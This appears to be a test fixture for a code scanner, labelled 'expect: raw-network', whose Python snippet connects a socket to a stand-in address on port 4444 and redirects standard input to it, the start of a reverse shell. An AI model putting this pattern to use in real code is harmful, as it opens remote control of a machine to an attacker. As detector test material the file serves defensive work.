# expect: raw-network
import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0)
